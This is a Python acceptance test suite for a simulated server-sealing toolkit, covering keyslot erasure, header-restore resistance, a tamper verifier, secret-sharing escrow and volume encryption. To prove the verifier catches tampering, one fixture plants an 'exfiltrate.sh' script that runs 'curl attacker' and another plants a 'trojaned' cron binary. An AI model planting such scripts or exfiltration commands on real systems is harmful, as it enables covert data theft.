"""Acceptance suite: one test per criterion, one printed line per criterion.

Run with ``pytest tests/test_acceptance.py -v -s`` to see the lines.
Tolerances and counts are pinned here; nothing is deferred to calibration.
"""

from __future__ import annotations

import time

import pytest

from conftest import SMALL, build_sealed, build_server

from sealkit import volume as vol
from sealkit.config import ServerConfig
from sealkit.escrow import MissingShares, reconstruct, split_key
from sealkit.machine import full_tree_from_images
from sealkit.sealing import (
    default_plan,
    prepare_trusted_server,
    seal_all,
    seal_single_stage,
)
from sealkit.scenarios import drop_step
from sealkit.services import MillionairesState, millionaires_publish, millionaires_submit
from sealkit.util import SimClock, make_rng
from sealkit.verifier import default_policy, verify_seal
from sealkit.volume import AuthFailure, Keyfile, KeyslotsEmpty, SECTOR_BYTES


def report(criterion: int, name: str) -> None:
    print(f"ACCEPTANCE {criterion} [{name}]: PASS")


def test_criterion_1_sealed_inaccessibility():
    """100/100 randomized servers: after seal_all + power_off, every unlock
    with the original keyfiles fails with KeyslotsEmpty."""
    failures = 0
    for seed in range(100):
        host = build_server(10_000 + seed)
        vm = host.nested_vm
        host_keyfile = Keyfile(host.boot_partition.read_file("/keyfile"))
        vm_keyfile = Keyfile(vm.boot_partition.read_file("/keyfile"))
        seal_all(host)
        host.power_off()
        for machine, keyfile in ((host, host_keyfile), (vm, vm_keyfile)):
            try:
                vol.unlock(machine.root_volume, keyfile)
                failures += 1
            except KeyslotsEmpty:
                pass
    assert failures == 0, f"{failures} unlock attempts did not fail with KeyslotsEmpty"
    report(1, "sealed inaccessibility 100/100")


def test_criterion_2_dual_stage_theorem():
    """Header-restore on the VM disk after seal_all: AuthFailure on 100% of
    sector reads, 100/100 servers. The identical attack on a single-stage
    host-only seal recovers plaintext in 100/100 trials."""
    for seed in range(100):
        host = build_server(20_000 + seed)
        vm = host.nested_vm
        stale_header = vol.header_backup(vm.root_volume)
        seal_all(host)
        host.power_off()
        vol.restore_header(vm.root_volume, stale_header)
        handle = vol.unlock(vm.root_volume, Keyfile(vm.boot_partition.read_file("/keyfile")))
        for index in range(vm.root_volume.sector_count):
            with pytest.raises(AuthFailure):
                vol.read_sector(handle, index)

    for seed in range(100):
        host = build_server(30_000 + seed)
        secret = full_tree_from_images(host.snapshot_image()).read_text(
            "/root/host-secret.txt"
        )
        stale_header = vol.header_backup(host.root_volume)
        seal_single_stage(host)
        host.power_off()
        vol.restore_header(host.root_volume, stale_header)
        handle = vol.unlock(host.root_volume,
                            Keyfile(host.boot_partition.read_file("/keyfile")))
        plain = b"".join(
            vol.read_sector(handle, i) for i in range(host.root_volume.sector_count)
        )
        from sealkit.tree import FileTree

        tree = FileTree.decode(plain)
        assert tree.read_text("/root/host-secret.txt") == secret
    report(2, "dual-stage theorem 100/100 vs single-stage 100/100")


def _tamper_fixtures():
    """The five tamper classes, each returning (verdict, expected subject match)."""

    def added_script(seed):
        host = build_server(seed)
        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
        host.boot()
        host.write_file("/usr/local/bin/exfiltrate.sh", b"#!/bin/sh\ncurl attacker\n")
        bundle = seal_all(host)
        verdict = verify_seal(hi, vi, bundle, default_policy(default_plan(host.config)))
        return verdict, "/usr/local/bin/exfiltrate.sh"

    def modified_binary(seed):
        host = build_server(seed)
        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
        host.boot()
        host.write_file("/usr/sbin/cron", b"#!ELF trojaned cron binary\n")
        bundle = seal_all(host)
        verdict = verify_seal(hi, vi, bundle, default_policy(default_plan(host.config)))
        return verdict, "/usr/sbin/cron"

    def residual_keyslot(seed):
        host = build_server(seed)
        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
        honest = default_plan(host.config)
        bundle = seal_all(host, drop_step(honest, "host", "luks_erase"))
        verdict = verify_seal(hi, vi, bundle, default_policy(honest))
        return verdict, "luksErase"

    def surviving_user(seed):
        host = build_server(seed)
        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
        honest = default_plan(host.config)
        bundle = seal_all(host, drop_step(honest, "vm", "remove_user"))
        verdict = verify_seal(hi, vi, bundle, default_policy(honest))
        return verdict, "trust"

    def surviving_ssh(seed):
        host = build_server(seed)
        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
        honest = default_plan(host.config)
        bundle = seal_all(host, drop_step(honest, "vm", "purge_ssh"))
        verdict = verify_seal(hi, vi, bundle, default_policy(honest))
        return verdict, "ssh"

    return [
        ("added-script", added_script),
        ("modified-binary", modified_binary),
        ("residual-keyslot", residual_keyslot),
        ("surviving-user", surviving_user),
        ("surviving-ssh", surviving_ssh),
    ]


def test_criterion_3_verifier_soundness_and_completeness():
    """Each of the five tamper classes FAILs with a finding naming the
    artifact; 100 clean seals give 100 PASS verdicts with zero errors."""
    for index, (name, fixture) in enumerate(_tamper_fixtures()):
        verdict, subject = fixture(40_000 + index)
        assert verdict.status == "FAIL", f"tamper class {name} was not flagged"
        named = [f for f in verdict.errors if subject in f.subject]
        assert named, (
            f"tamper class {name}: no finding names {subject!r}: "
            f"{[f.render() for f in verdict.errors]}"
        )

    for seed in range(100):
        host, vm, hi, vi, bundle = build_sealed(50_000 + seed)
        verdict = verify_seal(hi, vi, bundle, default_policy(default_plan(host.config)))
        assert verdict.status == "PASS" and not verdict.errors, (
            f"seed {seed}: {[f.render() for f in verdict.errors]}"
        )
    report(3, "verifier soundness 5/5, completeness 100/100")


def test_criterion_4_escrow():
    """1000 random (secret, n in 2..8) reconstruct exactly; every (n-1)-subset
    raises MissingShares; single-share chi-square stays under the 0.999
    quantile for df=255 (331)."""
    rng = make_rng(60_000)
    for trial in range(1000):
        n = rng.randint(2, 8)
        secret = rng.randbytes(rng.randint(1, 128))
        shares = split_key(secret, n, rng)
        assert reconstruct(shares) == secret
        for drop in range(n):
            subset = [s for i, s in enumerate(shares) if i != drop]
            with pytest.raises(MissingShares):
                reconstruct(subset)

    secret = rng.randbytes(64)
    counts = [0] * 256
    for _ in range(1000):
        for byte in split_key(secret, 3, rng)[0].payload:
            counts[byte] += 1
    expected = 1000 * 64 / 256
    chi2 = sum((c - expected) ** 2 / expected for c in counts)
    assert chi2 < 331.0, f"chi-square {chi2:.1f} over the 0.999 quantile"
    report(4, f"escrow 1000/1000, chi-square {chi2:.1f} < 331")


def test_criterion_5_volume_round_trip_and_secrecy():
    """1000 random sector writes read back exactly; the raw image shares no
    16-byte window with any written plaintext."""
    rng = make_rng(70_000)
    keyfile = Keyfile.generate(rng)
    volume = vol.format_volume(64, keyfile, vol.CipherSpec(kdf_iterations=10), rng).volume
    handle = vol.unlock(volume, keyfile)

    plaintexts = []
    for _ in range(1000):
        index = rng.randrange(64)
        data = rng.randbytes(SECTOR_BYTES)
        vol.write_sector(handle, index, data)
        assert vol.read_sector(handle, index) == data
        plaintexts.append(data)

    image = vol.serialize_volume(volume)
    image_windows = {image[i : i + 16] for i in range(len(image) - 15)}
    for data in plaintexts:
        for i in range(SECTOR_BYTES - 15):
            assert data[i : i + 16] not in image_windows
    report(5, "volume round-trip 1000/1000, no plaintext window in image")


def test_criterion_6_millionaires_oracle_equivalence():
    """500 random submission sets (with duplicates and ties): published order
    equals the brute-force oracle; no asset value appears in the output."""

    def oracle(pairs):
        remaining = [(name, assets, seq) for seq, (name, assets) in enumerate(pairs)]
        out = []
        while remaining:
            best = remaining[0]
            for cand in remaining[1:]:
                if cand[1] > best[1] or (cand[1] == best[1] and cand[2] < best[2]):
                    best = cand
            out.append(best[0])
            remaining.remove(best)
        return out

    rng = make_rng(80_000)
    for trial in range(500):
        count = rng.randint(0, 20)
        pairs = []
        for i in range(count):
            # digit-free names so the value-disclosure scan cannot false-positive
            name = f"party-{chr(65 + i % 26)}{chr(97 + (i // 26) % 26)}"
            # small value range forces ties; occasional repeats force duplicates
            value = rng.choice([rng.randint(10, 99), rng.randint(10**3, 10**7)])
            if pairs and rng.random() < 0.2:
                name = pairs[rng.randrange(len(pairs))][0]
            pairs.append((name, value))
        state = MillionairesState()
        for name, value in pairs:
            state = millionaires_submit(state, name, value)
        published = millionaires_publish(state)
        assert published == oracle(pairs), f"trial {trial}: {pairs}"
        text = "\n".join(published)
        for _, value in pairs:
            assert str(value) not in text
    report(6, "millionaires oracle equivalence 500/500")


def test_criterion_7_log_and_manifest_determinism():
    """Repeated seal-verify cycles on a fixed seed: byte-identical manifests
    and byte-identical sealing logs (simulated clock, no wall time)."""

    def cycle(seed):
        host = prepare_trusted_server(SMALL, rng=make_rng(seed), clock=SimClock())
        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
        bundle = seal_all(host)
        policy = default_policy(default_plan(host.config))
        verdict = verify_seal(hi, vi, bundle, policy)
        assert verdict.status == "PASS"
        from sealkit.manifest import compute_manifest

        pre_manifest = compute_manifest(
            full_tree_from_images(hi), host.config.root_specs()
        ).render()
        return (
            pre_manifest,
            bundle.host_log_text,
            bundle.vm_log_text,
            bundle.index_digest(),
        )

    first = cycle(90_001)
    second = cycle(90_001)
    assert first == second, "fixed-seed cycles are not byte-identical"
    assert cycle(90_002)[3] != first[3], "distinct seeds must differ"
    report(7, "fixed-seed determinism: manifests, logs, bundle digest identical")


def test_criterion_8_desk_scale_runtime():
    """Full build->seal->verify on a 16 MiB simulated disk in under 10 s."""
    config = ServerConfig(host_sectors=32_768, vm_sectors=512)  # 16 MiB host disk
    started = time.perf_counter()
    host = prepare_trusted_server(config, rng=make_rng(90_100), clock=SimClock())
    hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
    bundle = seal_all(host)
    verdict = verify_seal(hi, vi, bundle, default_policy(default_plan(config)))
    elapsed = time.perf_counter() - started
    assert verdict.status == "PASS"
    assert elapsed < 10.0, f"cycle took {elapsed:.2f}s, budget is 10s"
    report(8, f"16 MiB build->seal->verify in {elapsed:.2f}s < 10s")
